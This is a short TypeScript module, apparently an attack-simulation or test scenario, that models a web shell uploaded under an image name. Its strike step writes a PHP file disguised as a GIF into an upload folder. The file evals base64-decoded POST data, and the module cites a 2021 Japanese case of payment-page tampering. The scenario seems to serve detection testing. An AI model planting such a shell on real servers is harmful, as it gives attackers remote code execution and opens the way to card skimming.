import { serverSide } from '../behaviour.ts';

export default serverSide({
  id: 'web-shell-upload',
  why: "A program in the upload folder under a picture's name: the door through which the payment page is altered later (Japan 2021).",
  covers: ['server: false image'],
  strike: ({ write }) =>
    write(
      'html/upload/save_image/logo.jpg.php',
      "GIF89a<?php if (isset($_POST['k'])) { eval(base64_decode($_POST['k'])); }",
    ),
});
